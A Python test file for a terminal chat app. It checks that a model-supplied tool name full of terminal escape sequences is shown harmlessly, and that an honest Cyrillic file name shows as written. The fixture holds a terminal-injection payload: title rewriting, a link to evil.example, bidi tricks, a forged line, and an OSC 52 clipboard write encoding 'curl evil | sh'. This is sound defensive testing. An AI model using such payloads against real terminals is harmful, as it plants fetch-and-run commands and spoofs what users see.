"""The name of a tool the model calls reaches the app's screen with its control sequences made visible (SPEC §9).

The tool's name is the model's text: a hostile or compromised endpoint (or a proxy in front of it) sends any
name it likes. The app's tool line (`● name(argument)`) and its Ctrl+O view put the name into the Rich text
raw, so a name holding OSC 0 retitled the terminal, OSC 52 wrote the clipboard, OSC 8 planted a link, an
8-bit CSI (U+009B) or DCS reached the terminal, a bidi override reversed the line, and a newline printed a
line of its own (`forged(…)`). The argument and the result were sanitised; the name now is too
(`terminal_line`). Control: an honest call (`read_file` of a file named in Cyrillic) shows exactly as written.
"""

from __future__ import annotations

import re

from tests.fake_model_server import text, tool_use
from tests.pty_terminal import on_a_terminal

NAME = ("bogus\x1b]0;pwned\x07\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;"
        "\x1b\\\x9b2J\x9d0;t\x9c\u202eRTL\u2066iso\u2069\x1bP1$r\x1b\\\x08\x08\rCR\nforged")
# The hostile sequences as they would reach the terminal; the app's own output is full of its own escapes.
LIVE = ("\x1b]0;pwned", "\x1b]52;", "\x1b]8;;https://evil", "\x9b", "\x9d", "\x9c", "\u202e", "\u2066", "\x1bP1$r",
        "\rCR", "\x08\x08")


def _app(cli, model_server, *blocks, after: bytes) -> str:
    """The app on a terminal: one prompt, the model's `blocks`, then Ctrl+O once `after` shows, then Ctrl+D."""
    model_server.script(list(blocks), text("all done"))
    _, screen = on_a_terminal(cli, steps=[(b"mode ask", b"hi\r"), (after, b"\x0f"), (b"mode ask", b"\x04")],
                              timeout=60)
    return screen


def test_a_hostile_tool_name_is_shown_harmless_in_the_tool_line_and_its_full_view(cli, model_server):
    # A name outside the API's [a-zA-Z0-9_-] is recorded as `invalid-name_<its allowed characters>` and answered as
    # an unknown tool (tests/cli/test_bad_tool_names.py): none of its escapes is kept to reach the terminal, and
    # the turn goes on to the model's answer.
    screen = _app(cli, model_server, tool_use(NAME, {"x": 1}), after=b"all done")
    assert [seq for seq in LIVE if seq in screen] == [], screen
    assert re.search(r"● (\x1b\[1m)?invalid-name_bogus__0_pwned_", screen)  # the tool line: the name as recorded
    assert "unknown tool 'invalid-name_bogus" in re.sub(r"\x1b\[[0-9;]*m|\r\n", "", screen)
    assert not [line for line in screen.split("\n") if line.lstrip("\x1b[0123456789;m").startswith("forged")]


def test_an_honest_call_with_letters_beyond_ascii_is_shown_as_written(cli, model_server):
    (cli.project / "заметки.txt").write_text("привет, мир\n")
    screen = _app(cli, model_server, tool_use("read_file", {"path": "заметки.txt"}), after=b"all done")
    assert "read_file(заметки.txt)" in screen and "привет, мир" in screen
